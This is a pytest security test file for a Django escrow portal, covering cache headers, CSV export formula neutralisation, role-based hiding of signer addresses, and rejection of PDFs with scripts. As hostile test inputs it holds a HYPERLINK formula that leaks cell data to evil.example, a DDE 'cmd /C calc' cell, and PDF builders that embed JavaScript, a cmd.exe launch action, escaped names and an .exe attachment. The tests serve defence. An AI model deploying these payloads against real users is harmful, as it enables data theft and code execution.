"""Confidential by default (issue 10, item 7), tried as the parties and as a hostile one would: nothing is
cached, exported cells never run as formulas, a signer's address is the agent's and compliance's business
only, the API's map needs sign-in, uploads carry no scripts, and only accounting firms audit (SPA 4.2, 9)."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject
from rest_framework.test import APIClient

from escrow import actions
from escrow.contract.errors import InvalidInput
from escrow.documents.storage import check_pdf
from escrow.models import DealParty, HistoryEntry, Role, StoredDocument
from escrow.queries.exports import export_csv, inert
from parties.actions import add_organisation
from parties.models import Organisation
from tests.conftest import PASSWORD, make_pdf, open_and_file, post_report, tranche
from tests.factories import make_deal
from tests.parties.tokens import token_secret

pytestmark = pytest.mark.django_db

SIGNER_IP, SIGNER_AGENT = "203.0.113.77", "SignerBrowser/9.1 (hostile-check)"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open the release")'


def client_for(user):
    client = Client()
    client.force_login(user)
    return client


def token_client(user):
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {token_secret(user)}")
    return client


def assert_no_store(response):
    cache_control = response.get("Cache-Control", "")
    assert "no-store" in cache_control and "private" in cache_control, (response.status_code, cache_control)


@pytest.fixture
def signed(deposited, people):
    """Year 1 reported; the issuer has signed the joint instruction from a known address and browser."""
    t = open_and_file(deposited, people, 1, "598500000")
    instruction = t.instruments.get(kind="joint_instruction", status="open")
    actions.sign_instrument(
        people["issuer"],
        instruction.pk,
        expected_sha256=instruction.document.sha256,
        password=PASSWORD,
        ip=SIGNER_IP,
        user_agent=SIGNER_AGENT,
    )
    return tranche(deposited, 1), instruction, instruction.signatures.get(signer=people["issuer"])


# --- Cache-Control: no-store -----------------------------------------------------------------------------


def test_pages_downloads_exports_and_the_api_are_never_cached(signed, people):
    t, instruction, _ = signed
    deal = t.deal
    browser = client_for(people["agent1"])
    for url in (
        reverse("escrow:dashboard"),
        reverse("escrow:deal", args=[deal.slug]),
        reverse("escrow:tranche", args=[deal.slug, 1]),
        reverse("escrow:history", args=[deal.slug]),
        reverse("escrow:history_csv", args=[deal.slug]),
        reverse("escrow:history_pdf", args=[deal.slug]),
        reverse("escrow:document", args=[instruction.document.pk]),
    ):
        response = browser.get(url)
        assert response.status_code == 200, url
        assert_no_store(response)
    api = token_client(people["seller"])
    for url in (
        f"/api/deals/{deal.slug}/",
        f"/api/tranches/{t.pk}/",
        f"/api/deals/{deal.slug}/history/",
        f"/api/documents/{instruction.document.pk}/download/",
    ):
        response = api.get(url)
        assert response.status_code == 200, url
        assert_no_store(response)
    # Refusals too: a 404 for an outsider and a 401 for no one are not kept either.
    assert_no_store(APIClient().get(f"/api/deals/{deal.slug}/"))
    assert_no_store(Client().get(reverse("escrow:deal", args=[deal.slug])))


# --- CSV exports: formulas come out inert ----------------------------------------------------------------


def test_a_firm_named_as_a_formula_comes_out_inert_in_the_csv(kaixin, people):
    """The issuer types a spreadsheet formula as a new firm's name; every party's export shows it as text."""
    response = client_for(people["issuer"]).post(
        reverse("escrow:approve_auditor", args=[kaixin.slug]), {"name": HYPERLINK, "jurisdiction": "PRC"}
    )
    assert response.status_code == 302
    assert HistoryEntry.objects.filter(deal=kaixin, action="auditor_approved", summary__startswith="=").exists()

    export = client_for(people["seller"]).get(reverse("escrow:history_csv", args=[kaixin.slug]))
    assert export.status_code == 200
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{HYPERLINK} approved as the accounting firm" in cells


@pytest.mark.parametrize(
    "cell, expected",
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1:A9)", "'+SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Kaixin approved", "Kaixin approved"),
        (-15, "-15"),
        ("-1,500", "-1,500"),
    ],
)
def test_every_dangerous_start_is_neutralised(kaixin, cell, expected):
    from defusedcsv import csv as defused

    buffer = io.StringIO()
    defused.writer(buffer).writerow([inert(cell)])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [expected]


def test_the_export_quotes_an_organisation_and_an_actor_named_as_formulas(kaixin, people, admin_user):
    firm = add_organisation(admin_user, name="@SUM(1+1)*cmd|' /C calc'!A0", jurisdiction="HK", kind="accounting_firm")
    actions.approve_auditor(people["issuer"], kaixin, firm)
    data, check = export_csv(kaixin)
    assert check.ok
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    # Column 10 is the English record (hashed), column 9 the reader's words (issue 12): neither starts a formula.
    records = [r[10] for r in rows if len(r) > 10 and "SUM(1+1)" in r[10]]
    assert len(records) == 1 and records[0].startswith("'@SUM(1+1)")
    assert not [cell for r in rows for cell in r if cell[:1] in ("=", "+", "@")]


# --- Signers' addresses and user agents ------------------------------------------------------------------


@pytest.mark.parametrize("persona", ["agent1", "agent2", "compliance"])
def test_the_agent_and_compliance_see_where_a_signer_signed_from(signed, people, persona):
    t, instruction, _ = signed
    page = client_for(people[persona]).get(reverse("escrow:tranche", args=[t.deal.slug, 1])).content.decode()
    assert SIGNER_IP in page and SIGNER_AGENT in page
    for url in (f"/api/instruments/{instruction.pk}/", f"/api/tranches/{t.pk}/"):
        body = token_client(people[persona]).get(url).content.decode()
        assert SIGNER_IP in body and SIGNER_AGENT in body, url
    signature = token_client(people[persona]).get(f"/api/instruments/{instruction.pk}/").json()["signatures"][0]
    assert (signature["ip_address"], signature["user_agent"]) == (SIGNER_IP, SIGNER_AGENT)


@pytest.mark.parametrize("persona", ["issuer", "purchaser", "seller", "auditor"])
def test_every_other_role_sees_the_signature_without_them(signed, people, persona):
    t, instruction, signature = signed
    page = client_for(people[persona]).get(reverse("escrow:tranche", args=[t.deal.slug, 1])).content.decode()
    assert 'data-testid="signature-row"' in page and signature.sha256[:16] in page
    assert SIGNER_IP not in page and SIGNER_AGENT not in page
    for url in (f"/api/instruments/{instruction.pk}/", f"/api/tranches/{t.pk}/", f"/api/deals/{t.deal.slug}/"):
        body = token_client(people[persona]).get(url).content.decode()
        assert SIGNER_IP not in body and SIGNER_AGENT not in body, url
    api_signature = token_client(people[persona]).get(f"/api/instruments/{instruction.pk}/").json()["signatures"][0]
    assert api_signature["sha256"] == signature.sha256 and "ip_address" not in api_signature
    assert "user_agent" not in api_signature


def test_the_receipt_shows_the_address_to_the_signer_only_among_the_parties(signed, people):
    _, _, signature = signed
    url = reverse("escrow:signature_receipt", args=[signature.pk])
    own = client_for(people["issuer"]).get(url).content.decode()
    assert SIGNER_IP in own and SIGNER_AGENT in own
    for persona in ("purchaser", "seller", "auditor"):
        page = client_for(people[persona]).get(url).content.decode()
        assert signature.sha256 in page and SIGNER_IP not in page and SIGNER_AGENT not in page, persona


# --- The OpenAPI schema and docs need sign-in ------------------------------------------------------------


def test_the_schema_and_the_docs_need_sign_in(people):
    schema = APIClient().get("/api/schema/", {"format": "json"})
    assert schema.status_code == 401 and "paths" not in schema.content.decode()
    assert schema["WWW-Authenticate"].startswith("Token")
    docs = Client().get("/api/docs/")
    assert docs.status_code == 302 and docs["Location"].startswith(reverse("login"))
    assert b"swagger" not in docs.content.lower()
    assert APIClient().get("/api/docs/", {"script": ""}).status_code in (302, 401)

    assert token_client(people["seller"]).get("/api/schema/", {"format": "json"}).json()["paths"]
    signed_in = client_for(people["seller"])
    assert signed_in.get("/api/schema/", {"format": "json"}).status_code == 200
    page = signed_in.get("/api/docs/")
    assert page.status_code == 200 and b"swagger-ui" in page.content
    assert_no_store(page)


# --- PDFs with scripts, launch actions or embedded files -------------------------------------------------


def _pdf(build=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if build:
        build(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _name(value):
    return NameObject(value)


def _open_action_js(writer):
    action = DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[_name("/OpenAction")] = writer._add_object(action)


def _names_tree_js(writer):
    script = DictionaryObject(
        {_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("this.exportDataObject")}
    )
    tree = DictionaryObject({_name("/Names"): ArrayObject([TextStringObject("start"), writer._add_object(script)])})
    writer._root_object[_name("/Names")] = DictionaryObject({_name("/JavaScript"): writer._add_object(tree)})


def _launch_link(writer):
    action = DictionaryObject({_name("/S"): _name("/Launch"), _name("/F"): TextStringObject("cmd.exe")})
    link = DictionaryObject(
        {
            _name("/Type"): _name("/Annot"),
            _name("/Subtype"): _name("/Link"),
            _name("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
            _name("/A"): action,
        }
    )
    writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])


def _page_opens_js(writer):
    """A page's additional action (/AA /O): JavaScript run when the page opens, away from the catalogue."""
    script = DictionaryObject({_name("/S"): _name("/JavaScript"), _name("/JS"): TextStringObject("app.launchURL()")})
    writer.pages[0][_name("/AA")] = DictionaryObject({_name("/O"): writer._add_object(script)})


def _attachment(writer):
    writer.add_attachment("invoice.exe", b"MZ\x90\x00 not a report")


def _escaped_names() -> bytes:
    """Names written with #xx escapes (/J#53, /Java#53cript): a byte search misses them, the parser does not."""
    raw = _pdf()
    return raw.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>")


HOSTILE = {
    "open action JavaScript": (lambda: _pdf(_open_action_js), "JavaScript"),
    "document-level JavaScript": (lambda: _pdf(_names_tree_js), "JavaScript"),
    "launch action": (lambda: _pdf(_launch_link), "launch action"),
    "page-open JavaScript": (lambda: _pdf(_page_opens_js), "JavaScript"),
    "embedded file": (lambda: _pdf(_attachment), "embedded file"),
    "escaped names": (_escaped_names, "JavaScript"),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_active_pdfs_are_refused_with_a_clear_message(kind):
    build, what = HOSTILE[kind]
    with pytest.raises(InvalidInput) as refused:
        check_pdf(build())
    assert what in refused.value.message
    assert "the portal accepts no PDF with JavaScript, launch actions or embedded files" in refused.value.message


def test_plain_pdfs_still_pass():
    check_pdf(make_pdf("Audited revenue report"))
    check_pdf(_pdf())

    def uri_link(writer):  # an ordinary web link is not an action that runs anything
        action = DictionaryObject({_name("/S"): _name("/URI"), _name("/URI"): TextStringObject("https://example.com")})
        link = DictionaryObject({_name("/Subtype"): _name("/Link"), _name("/A"): action})
        writer.pages[0][_name("/Annots")] = ArrayObject([writer._add_object(link)])

    check_pdf(_pdf(uri_link))


def test_the_auditor_cannot_file_a_report_with_javascript_by_page_or_api(deposited, people):
    t = tranche(deposited, 1)
    actions.open_year(t.pk, today=t.period_end + timedelta(days=1))
    documents = StoredDocument.objects.count()
    hostile = _pdf(_open_action_js)
    response = post_report(
        client_for(people["auditor"]),
        deposited,
        1,
        {
            "audited_revenue": "598,500,000.00",
            "report": SimpleUploadedFile("report.pdf", hostile, content_type="application/pdf"),
        },
    )
    assert response.status_code == 400
    assert "the portal accepts no PDF with JavaScript" in response.content.decode()
    api = token_client(people["auditor"]).post(
        f"/api/tranches/{t.pk}/report/",
        {"audited_revenue": "598500000", "pdf": SimpleUploadedFile("r.pdf", _pdf(_launch_link))},
        format="multipart",
    )
    assert api.status_code == 400 and "launch action" in api.json()["detail"]
    assert StoredDocument.objects.count() == documents
    assert tranche(deposited, 1).state == "awaiting_report" and not tranche(deposited, 1).reports.exists()


# --- Only accounting firms are approved; the picker shows no other deal's parties ------------------------


def test_a_company_is_never_approved_as_the_auditor_by_page_action_or_api(kaixin, people, admin_user):
    company = add_organisation(admin_user, name="Friendly Trading Ltd", jurisdiction="HK")
    issuer = people["issuer"]
    before = DealParty.objects.filter(deal=kaixin).count()

    response = client_for(issuer).post(
        reverse("escrow:approve_auditor", args=[kaixin.slug]), {"organisation": company.pk}
    )
    assert response.status_code == 400 and "Select a valid choice" in response.content.decode()

    with pytest.raises(InvalidInput) as refused:
        actions.approve_auditor(issuer, kaixin, company)
    assert "Only an accounting firm can be approved as the auditor (SPA 4.2)" in refused.value.message

    api = token_client(issuer).post(f"/api/deals/{kaixin.slug}/approve-auditor/", {"organisation": company.pk})
    missing = token_client(issuer).post(f"/api/deals/{kaixin.slug}/approve-auditor/", {"organisation": 999999})
    assert api.status_code == missing.status_code == 400
    assert api.json()["detail"] == missing.json()["detail"]  # an id tried says nothing about who it is
    assert (
        "only an accounting firm can be approved" in api.json()["detail"] and company.name not in api.content.decode()
    )
    assert DealParty.objects.filter(deal=kaixin).count() == before


def test_a_company_staff_put_in_the_auditor_role_is_not_approved(kaixin, people, admin_user):
    company = add_organisation(admin_user, name="Not Auditors Ltd", jurisdiction="HK")
    actions.add_party(kaixin, company, Role.AUDITOR, by=admin_user)
    with pytest.raises(InvalidInput, match="Only an accounting firm"):
        actions.approve_auditor(people["issuer"], kaixin, company)
    assert DealParty.objects.get(deal=kaixin, organisation=company).approved_at is None


def test_the_picker_shows_no_other_deals_parties(kaixin, people, admin_user):
    """Decision: the list offers accounting firms that are parties to no other deal, in any role (an auditor
    elsewhere included), plus a firm staff added to this deal as its auditor; a firm serving another deal is
    approved by entering its legal name, which finds it without the list revealing it."""
    elsewhere, others = make_deal("elsewhere")
    their_firm = others["auditor"].organisation
    their_issuer = others["issuer"].organisation
    assert their_firm.kind == Organisation.Kind.ACCOUNTING_FIRM
    free_firm = add_organisation(admin_user, name="Free Audit LLP", jurisdiction="PRC", kind="accounting_firm")
    double = add_organisation(admin_user, name="Double Role CPA", jurisdiction="PRC", kind="accounting_firm")
    actions.add_party(elsewhere, double, Role.COMPLIANCE, by=admin_user)
    pending = add_organisation(admin_user, name="Pending Here LLP", jurisdiction="PRC", kind="accounting_firm")
    actions.add_party(kaixin, pending, Role.AUDITOR, by=admin_user)

    url = reverse("escrow:approve_auditor", args=[kaixin.slug])
    page = client_for(people["issuer"]).get(url).content.decode()
    assert f'value="{free_firm.pk}"' in page and f'value="{pending.pk}"' in page
    for hidden in (their_firm, their_issuer, double):
        assert f'value="{hidden.pk}"' not in page and hidden.name not in page, hidden.name
    # Chosen by id anyway (a hand-made form): refused like any choice not offered.
    refused = client_for(people["issuer"]).post(url, {"organisation": their_firm.pk})
    assert refused.status_code == 400 and not DealParty.objects.filter(deal=kaixin, organisation=their_firm).exists()

    # Entered by its legal name: the existing firm is approved, no duplicate organisation is made.
    organisations = Organisation.objects.count()
    response = client_for(people["issuer"]).post(url, {"name": f"  {their_firm.name.upper()} ", "jurisdiction": "PRC"})
    assert response.status_code == 302 and Organisation.objects.count() == organisations
    party = DealParty.objects.get(deal=kaixin, organisation=their_firm)
    assert party.role == Role.AUDITOR and party.approved_by == people["issuer"]
